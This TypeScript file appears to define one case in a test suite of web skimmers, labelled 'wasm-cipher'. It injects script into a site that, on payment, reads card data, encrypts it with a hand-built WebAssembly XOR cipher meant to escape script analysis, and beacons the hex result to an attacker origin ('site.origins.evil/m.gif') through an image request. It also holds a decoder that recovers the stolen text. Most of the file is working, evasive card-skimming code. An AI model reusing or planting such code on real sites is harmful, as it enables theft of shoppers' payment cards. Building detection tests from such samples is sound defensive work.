import { holds, js, skimmer } from '../behaviour.ts';
import { query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

/**
 * Assembled by hand: one page of memory, exported as `m`; `f(length, state)` walks the bytes and XORs each with the high
 * bits of a linear congruential generator (1103515245, 12345).
 */
const MODULE = [
  '0061736d 01000000', // magic, version
  '01 06 01 60 02 7f 7f 00', // type: (i32, i32) -> ()
  '03 02 01 00', // function 0 has type 0
  '05 03 01 00 01', // memory: one page
  '07 09 02 01 6d 02 00 01 66 00 00', // exports m, f
  '0a 3c 01 3a 01 01 7f', // code: one body, one local i32 (the index)
  '02 40 03 40', // block, loop
  '20 02 20 00 4f 0d 01', // index >= length: leave
  '20 01 41 ed9c998e04 6c 41 b9e000 6a 21 01', // state = state * 1103515245 + 12345
  '20 02 20 02 2d 00 00 20 01 41 10 76 73 3a 00 00', // m[i] ^= state >>> 16
  '20 02 41 01 6a 21 02 0c 00', // index + 1, again
  '0b 0b 0b',
]
  .join('')
  .replaceAll(' ', '');

function undo(bytes: Uint8Array): string {
  let state = 4711;
  return Buffer.from(
    bytes.map((byte) => {
      state = (Math.imul(state, 1103515245) + 12345) | 0;
      return byte ^ ((state >>> 16) & 255);
    }),
  ).toString('latin1');
}

export default skimmer({
  id: 'wasm-cipher',
  why: 'The cipher is WebAssembly: nothing a reader of scripts or a list of natives would recognise touches the plaintext.',
  covers: ['cipher: any', 'hard: resists analysis'],
  base: 'direct',
  install: (site) =>
    site.append(js`WebAssembly.instantiate(Uint8Array.from('${MODULE}'.match(/../g), function (h) { return parseInt(h, 16); })).then(function (w) {
${onPay(js`
    var text = card(), memory = new Uint8Array(w.instance.exports.m.buffer);
    for (var i = 0; i < text.length; i++) memory[i] = text.charCodeAt(i);
    w.instance.exports.f(text.length, 4711);
    var out = '';
    for (i = 0; i < text.length; i++) out += ('0' + memory[i].toString(16)).slice(-2);
    new Image().src = '${site.origins.evil}/m.gif?d=' + out;`)}
});`),
  proof: holds((arrived) => query(arrived, 'd').map((text) => undo(Buffer.from(text, 'hex')))),
});
